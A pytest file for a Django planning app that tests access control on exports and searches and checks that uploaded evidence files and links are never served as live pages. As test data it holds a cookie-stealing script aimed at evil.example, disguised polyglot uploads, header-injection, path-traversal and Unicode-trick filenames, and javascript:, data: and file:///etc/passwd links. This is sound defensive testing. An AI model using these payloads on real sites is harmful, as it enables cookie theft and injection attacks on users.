"""What leaves the site as a file, what a search finds, and what an uploaded file can do: no more than a page may show.

Part of who sees what (test_who_sees_what.py), and written as that was: without having read the pages' code.
"""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from typing import TYPE_CHECKING, Any

import pytest

from tests import people

if TYPE_CHECKING:
    from tests.web.visitors import Visitor, World

KINDS = ("docx", "xlsx", "html", "json")
TYPES = {
    "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    "html": "text/html",
    "json": "application/json",
}
DAY = dt.timedelta(days=1)
SCRIPT = b"<script>fetch('https://evil.example/'+document.cookie)</script>"
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
# What a browser may run or draw as a page when it is given one of these.
ACTIVE = re.compile(r"html|svg|xml(?!formats)|script|x-shockwave|mhtml|multipart", re.IGNORECASE)
EVIDENCE = {
    "says_met": "yes",
    "text": "The minutes say that all six have agreed.",
    "strength": "seen",
    "kind": "file",
}


def zipped(names: dict[str, bytes]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as file:
        for name, data in names.items():
            file.writestr(name, data)
    return made.getvalue()


HOSTILE = {
    "page": ("minutes.html", b"<!doctype html><html><body>" + SCRIPT + b"</body></html>", "text/html"),
    "page called text": ("minutes.txt", b"<!doctype html><html><body>" + SCRIPT, "text/plain"),
    "page called PDF": ("minutes.pdf", b"<!doctype html><html><body>" + SCRIPT, "application/pdf"),
    "page in capitals": ("MINUTES.HTM", b"\xef\xbb\xbf \r\n<HTML>" + SCRIPT, "application/octet-stream"),
    "picture that runs": (
        "logo.svg",
        b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>",
        "image/svg+xml",
    ),
    "XML": ("x.xml", b'<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">1</x:script>', "text/xml"),
    "script": ("minutes.js", b"fetch('https://evil.example/')", "text/javascript"),
    "PDF with a page behind": ("minutes.pdf", PDF + SCRIPT, "text/html"),
    "picture with a page behind": ("logo.png", PNG + SCRIPT, "text/html"),
    "letter with a page behind": ("letter.docx", zipped({"[Content_Types].xml": b"<Types/>"}) + SCRIPT, "text/html"),
    "zip": ("letter.zip", zipped({"x.html": SCRIPT}), "application/zip"),
    "text that ends a header": ('a"\r\nContent-Type: text/html\r\n\r\n.txt', SCRIPT, "text/html"),
    "text of another folder": ("../../static/site.html", b"Minutes.\n" + SCRIPT, "text/html"),
    "text with a markup's name": ("<img src=x onerror=alert(1)>.txt", b"Minutes.\n", "text/plain"),
    "text turned round": ("minutes\u202elmth.txt", b"Minutes.\n" + SCRIPT, "text/html"),
    "text of a long name": (f"{'m' * 400}.html", b"Minutes.\n" + SCRIPT, "text/html"),
    "text with ends": ("minutes.html;.txt", b"Minutes.\n" + SCRIPT, "text/html; charset=utf-7"),
}


def opened(world: World, key: str, address: str, area: str = "devon") -> Any:
    return world.visitors[key].ask("GET", f"/staff/{area}/{world.path(address, area)}")


def header(answer: Any, name: str) -> str:
    return str(answer.headers.get(name, ""))


def not_as_a_file(answer: Any) -> list[str]:
    """What is wrong with the headers of a file to be saved, which a browser must never show as a page of the site."""
    wrong = []
    if not re.fullmatch(
        r'attachment; filename="[^"/\\]+"(; filename\*=[\w%\'.-]+)?', header(answer, "Content-Disposition")
    ):
        wrong.append(f"Content-Disposition {header(answer, 'Content-Disposition')!r}")
    if header(answer, "X-Content-Type-Options") != "nosniff":
        wrong.append("no nosniff")
    policy = header(answer, "Content-Security-Policy")
    if not policy or "unsafe-inline" in policy.split("script-src")[-1]:
        wrong.append(f"Content-Security-Policy {policy!r}")
    if not {"no-store", "private"} & set(re.findall(r"[\w-]+", header(answer, "Cache-Control"))):
        wrong.append(f"Cache-Control {header(answer, 'Cache-Control')!r}")
    return wrong


@pytest.mark.parametrize("query", ["", "?updates=1"])
@pytest.mark.parametrize("kind", KINDS)
def test_a_plan_taken_away_is_a_file_of_its_own_area_and_no_more_than_the_plan(
    world: World, kind: str, query: str
) -> None:
    from tests.web import planted

    for area, keys in {"devon": ("ben", "chloe", "amina", "sunil"), "northmoor": ("dev",)}.items():
        area_words = world.areas[area].words
        for key in keys:
            answer = opened(world, key, f"export/{kind}/{query}", area)
            assert answer.status_code == 200
            assert not_as_a_file(answer) == []
            assert header(answer, "Content-Type").partition(";")[0] == TYPES[kind]
            found = planted.tokens(planted.everything_in(answer))
            assert {letter for letter, _ in found} == {area_words.letter}
            kinds = {each for _, each in found}
            # What waits for a decision, what evidence says and why things were done stay where they may be seen.
            secret = {"upload", "evidence", "evlink", "evfile", "evbytes", "confirm", "override", "closing", "risk"}
            assert kinds & secret == set()
            assert "plan" in kinds
            assert ("update" in kinds) == bool(query)
            if query:
                assert set(area_words.planted["update"]) == found[area_words.letter, "update"]


@pytest.mark.parametrize("kind", KINDS)
def test_nobody_who_may_not_read_the_plan_takes_it_away(world: World, kind: str) -> None:
    for key in ("tom", "dev", "norole", "ended", "later", "anon", "off", "bare", "gone", "half"):
        for query in ("", "?updates=1"):
            answer = opened(world, key, f"export/{kind}/{query}")
            assert answer.status_code in (302, 403, 404), key
            assert "attachment" not in header(answer, "Content-Disposition")
            assert world.areas["devon"].words.letter not in _letters(answer)


def _letters(answer: Any) -> set[str]:
    from tests.web import planted

    return {letter for letter, _ in planted.tokens(planted.everything_in(answer))}


def plain(answer: Any, word: str) -> tuple[int, bytes]:
    """An answer without the form's token and what was searched for."""
    body = re.sub(rb'name="csrfmiddlewaretoken" value="\w+"', b"", answer.content)
    return answer.status_code, re.sub(re.escape(word.encode()), b"?", body, flags=re.IGNORECASE)


def test_a_search_finds_nothing_of_another_area(world: World) -> None:
    """Word for word the answer that a word nobody ever wrote has, for every word of the other area's plan."""
    nothing = plain(opened(world, "dev", "search/?words=zqdnever99zq", "northmoor"), "zqdnever99zq")
    assert nothing[0] == 200
    words = world.areas["devon"].words.planted
    for kind, planted in words.items():
        for token in planted[:4]:
            found = plain(opened(world, "dev", f"search/?words={token}", "northmoor"), token)
            assert found == nothing, kind


def test_a_search_finds_nothing_of_a_document_that_waits(world: World) -> None:
    nothing = plain(opened(world, "ben", "search/?words=zqdnever99zq"), "zqdnever99zq")
    for token in world.areas["devon"].words.planted["upload"]:
        assert plain(opened(world, "ben", f"search/?words={token}"), token) == nothing


def test_a_search_finds_what_the_plan_and_its_updates_say(world: World) -> None:
    """Or the tests above would find nothing because nothing is found."""
    words = world.areas["devon"].words.planted
    for who in ("ben", "chloe", "ravi"):
        nothing = plain(opened(world, who, "search/?words=zqdnever99zq"), "zqdnever99zq")
        missed = [
            token for token in words["update"] if plain(opened(world, who, f"search/?words={token}"), token) == nothing
        ]
        assert missed == []
        text = opened(world, who, "search/?words=reported").content.decode()
        assert all(token in text for token in words["update"])


def give(world: World, visitor: Visitor, file: tuple[str, bytes, str], **changes: str) -> Any:
    """Give a file as evidence on Helen's action, through the form."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    sent = {**EVIDENCE, "criterion": world.areas["devon"].ids["outcome-of-0"], **changes}
    visitor.ask("GET", "/health/")  # so that the browser keeps no cookie but those of signing in
    name, data, media_type = file
    uploaded = SimpleUploadedFile(name, data, media_type)
    return visitor.client.post(
        world.path("/staff/devon/actions/<action-of-0>/evidence/", "devon"), {**sent, "file": uploaded}
    )


@pytest.mark.parametrize("name", HOSTILE)
def test_a_file_is_never_served_as_a_page(world: World, name: str) -> None:
    """Refused in words, or kept and given back byte for byte as a file to be saved, whatever it says it is."""
    from sendplan.plan.models import Evidence
    from tests.web import visitors

    file = HOSTILE[name]
    with visitors.undone():
        before = set(Evidence.objects.values_list("public_id", flat=True))
        answer = give(world, world.visitors["helen"], file)
        made = set(Evidence.objects.values_list("public_id", flat=True)) - before
        if answer.status_code != 302:
            assert answer.status_code in (400, 413, 422)
            assert made == set()
            assert SCRIPT not in answer.content
            return
        (evidence,) = made
        given = opened(world, "grace", f"evidence/{evidence}/file/")
        assert given.status_code == 200
        body = b"".join(given.streaming_content) if given.streaming else given.content
        assert body == file[1]
        assert not_as_a_file(given) == []
        assert not ACTIVE.search(header(given, "Content-Type")), header(given, "Content-Type")
        assert "sandbox" in header(given, "Content-Security-Policy")
        named = header(given, "Content-Disposition")
        assert not re.search(r"\.(html?|svg|xml|js)\"|[\x00-\x1f\u202e<>]", named), named
        assert len(named) < 300
        for address in (f"evidence/{evidence}/", "evidence/", "actions/<action-of-0>/"):
            page = opened(world, "grace", address).content
            assert SCRIPT not in page
            assert b"<img src=x" not in page
        for who, status in {"tom": 403, "dev": 404, "norole": 404, "anon": 302, "bare": 302}.items():
            refused = opened(world, who, f"evidence/{evidence}/file/")
            assert refused.status_code == status
            assert b"Minutes" not in refused.content
            assert SCRIPT not in refused.content
        elsewhere = opened(world, "dev", f"evidence/{evidence}/file/", "northmoor")
        assert elsewhere.status_code == 404


def test_the_file_of_planted_evidence_is_saved(world: World) -> None:
    for area, key in {"devon": "chloe", "northmoor": "dev"}.items():
        answer = opened(world, key, "evidence/<evidence-decided>/file/", area)
        assert answer.status_code == 200
        assert not_as_a_file(answer) == []
        assert _letters(answer) == {world.areas[area].words.letter}


@pytest.mark.parametrize(
    "link",
    [
        "javascript:alert(1)",
        " javascript:alert(1)",
        "JaVaScRiPt:alert(1)//https://example.org/",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:x",
        "//evil.example/x",
        "/staff/devon/audit/",
        "file:///etc/passwd",
        "https:evil",
        "https://",
        'https://example.org/"><script>alert(1)</script>',
        "https://example.org/\r\nSet-Cookie:x=1",
    ],
)
def test_a_link_in_evidence_leads_to_a_page_of_the_web_or_is_refused(world: World, link: str) -> None:
    from sendplan.plan.models import Evidence
    from tests.web import visitors

    with visitors.undone():
        before = Evidence.objects.count()
        sent = {**EVIDENCE, "criterion": world.areas["devon"].ids["outcome-of-0"], "kind": "link", "link": link}
        path = world.path("/staff/devon/actions/<action-of-0>/evidence/", "devon")
        answer = world.visitors["helen"].ask("POST", path, sent)
        assert b"<script>alert" not in answer.content
        if answer.status_code == 302:
            page = opened(world, "grace", f"evidence/{Evidence.objects.order_by('-pk')[0].public_id}/").content
            assert b"<script>alert" not in page
            assert re.search(rb'href="https?://[\w.-]+/', page)
            assert not re.search(rb'href="\s*(javascript|data|vbscript|file):', page, re.IGNORECASE)
        else:
            assert (answer.status_code, Evidence.objects.count()) == (422, before)


@pytest.mark.parametrize("until", [people.TODAY - DAY, None])
def test_a_post_gives_its_holder_its_actions_for_as_long_as_it_is_held(world: World, until: dt.date | None) -> None:
    """Helen may give evidence and updates through the post she holds, and from the day after it ended no more."""
    from sendplan.plan.models import Evidence, Holding, ProgressUpdate
    from tests.web import visitors

    helen = world.visitors["helen"]
    with visitors.undone():
        Holding.objects.filter(person__email=helen.email).update(until=until)
        allowed = until is None
        before = Evidence.objects.count(), ProgressUpdate.objects.count()
        path = world.path("/staff/devon/actions/<action-of-0>/", "devon")
        answer = give(world, helen, ("minutes.txt", b"Minutes.\n", "text/plain"))
        assert answer.status_code == (302 if allowed else 403)
        answer = helen.ask("GET", f"{path}evidence/")
        assert answer.status_code == (200 if allowed else 403)
        answer = helen.ask("POST", path, {"state": "in_progress", "text": "Two of the six partners have agreed."})
        assert answer.status_code == (302 if allowed else 403)
        assert (Evidence.objects.count(), ProgressUpdate.objects.count()) == tuple(each + allowed for each in before)


def test_a_post_that_nobody_holds_yet_gives_nothing(world: World) -> None:
    from sendplan.plan.models import Holding
    from tests.web import visitors

    nadia = world.visitors["nadia"]
    with visitors.undone():
        held = Holding.objects.get(person__email=nadia.email)
        Holding.objects.filter(pk=held.pk).update(until=people.TODAY - 9 * DAY)
        Holding.objects.create(post=held.post, person=held.person, since=people.TODAY + DAY)
        path = world.path("/staff/devon/actions/<action-of-1>/evidence/", "devon")
        assert nadia.ask("GET", path).status_code == 403


def test_whoever_gave_evidence_never_confirms_it_whatever_they_become(world: World) -> None:
    """Not as the parent co-chair whose word families' evidence waits for, nor through a second role."""
    from sendplan.access import actions as access
    from sendplan.access.models import User
    from sendplan.plan.models import Confirmation
    from tests.web import visitors

    helen = world.visitors["helen"]
    path = world.path("/staff/devon/evidence/<evidence-of-owner>/", "devon")
    for role in ("parent-co-chair", "board-chair"):
        with visitors.undone():
            before = Confirmation.objects.count()
            user = User.objects.get(email=helen.email)
            access.end_role(user_id=user.pk, area_slug="devon", last_day=people.TODAY - DAY, today=people.TODAY)
            access.give_role(
                user_id=user.pk, area_slug="devon", role=role, organisation="Independent", since=people.TODAY
            )
            for decision in ("yes", "no"):
                answer = helen.ask("POST", path, {"decision": decision, "text": "Somebody went and looked."})
                assert answer.status_code == 403
            assert Confirmation.objects.count() == before


def test_what_is_public_names_nobody_who_reports_and_gives_no_reason(world: World) -> None:
    """Anonymous and signed in alike; whatever follows the address."""
    from tests.web import planted

    shown = {"title", "plan", "reply", "update"}
    for area, letter in {"devon": "A", "northmoor": "N"}.items():
        under = f"/areas/{area}/"
        for path in (under, f"{under}families/", f"{under}sections/{letter}/"):
            for query in ("", "?on=2023-11-01", "?words=reported", "?updates=1", "?evidence=1", "?format=json"):
                for key in ("anon", "dev", "ben"):
                    said = planted.everything_in(world.visitors[key].ask("GET", path + query))
                    found = planted.tokens(said)
                    assert {each for each, _ in found} <= {world.areas[area].words.letter}, (path, key)
                    assert {each for _, each in found} <= shown, (path, key)
                    names = {each.name for each in world.visitors.values() if each.name}
                    assert [name for name in names - {world.visitors[key].name} if name in said] == []
